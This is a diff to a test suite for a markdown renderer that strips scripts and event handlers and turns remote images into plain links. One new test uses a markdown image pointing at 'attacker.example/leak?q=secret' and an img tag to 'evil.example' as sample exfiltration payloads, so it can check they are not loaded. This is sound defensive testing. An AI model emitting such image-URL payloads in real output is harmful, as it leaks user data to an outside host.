@@ -39,12 +39,29 @@ describe('renderMarkdown', () => {
     const d = dom(html);
     expect(d.querySelector('script, iframe')).toBeNull();
     expect(html).not.toMatch(/onerror|onload|javascript:|alert\(|style=/i);
-    expect(d.querySelector('img')?.getAttribute('src')).toBe('x');
+    expect(d.querySelector('img')).toBeNull();  // a non-data: image becomes a link
+    expect(d.querySelector('a.remote-image')?.getAttribute('href')).toBe('x');
   });
 
   it('makes links open in a new tab without an opener', () => {
     const a = dom(renderMarkdown('[site](https://example.com)')).querySelector('a')!;
     expect(a.getAttribute('target')).toBe('_blank');
     expect(a.getAttribute('rel')).toBe('noopener noreferrer');
+  });
+
+  it('shows remote images as links instead of loading them', () => {
+    const d = dom(renderMarkdown('look ![chart](https://attacker.example/leak?q=secret) and <img src="//evil.example/x.png" alt="x">'));
+    expect(d.querySelector('img')).toBeNull();
+    const links = Array.from(d.querySelectorAll('a.remote-image')) as HTMLAnchorElement[];
+    expect(links).toHaveLength(2);
+    expect(links[0].getAttribute('href')).toBe('https://attacker.example/leak?q=secret');
+    expect(links[0].textContent).toContain('[image: chart]');
+    expect(links[0].rel).toContain('noopener');
+  });
+
+  it('keeps inline data: images', () => {
+    const png = 'data:image/png;base64,iVBORw0KGgo=';
+    const d = dom(renderMarkdown(`![dot](${png})`));
+    expect(d.querySelector('img')?.getAttribute('src')).toBe(png);
   });
 });
